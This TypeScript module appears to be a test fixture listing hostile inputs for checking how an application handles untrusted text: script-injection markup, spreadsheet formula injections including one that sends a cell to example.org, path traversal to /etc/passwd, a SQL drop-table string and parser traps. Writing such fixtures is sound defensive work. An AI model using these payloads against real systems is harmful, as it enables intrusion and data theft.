/** Texts that a stranger may put wherever words can be typed. */

/** Turns the reading direction of what follows it (U+202E). */
export const turned = "\u202Egnp.exe";

/** Markup, placeholders, templates: what a page must show as it stands. */
export const markup = [
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  "'><svg/onload=alert(1)>",
  "</title></main><h1>stolen</h1>",
  "<!--",
  "{{title}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must not be filled in
  "${process.exit(1)}",
  "[a link](javascript:alert(1))",
  "&lt;script&gt;",
] as const;

/** What spreadsheets would run. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("http://example.org?"&A1,"open")',
  "＝1+1",
] as const;

/** Names that lead elsewhere. */
export const paths = [
  "../../etc/passwd",
  "..\\..\\windows",
  "/etc/passwd",
  "C:\\",
  "a\u0000b",
  "%2e%2e%2f",
] as const;

/** Words that mean something to a parser, a database or a language. */
export const traps = [
  "'); drop table observation; --",
  "constructor",
  "__proto__",
  "&a [*a]",
  "!!js/function x",
  "<<: *a",
  "%YAML 1.1",
  "[".repeat(3000),
  "1e400",
  "-0",
  "NaN",
  "9".repeat(400),
  "0x10",
  "\u2028",
  "\uFEFF",
  "\u001B[31m",
  "x".repeat(40_000),
  '"',
  '""',
  ",,,,",
  "---",
  "2019-20 Q3",
] as const;

export const hostileTexts: readonly string[] = [...markup, ...formulas, ...paths, ...traps, turned];
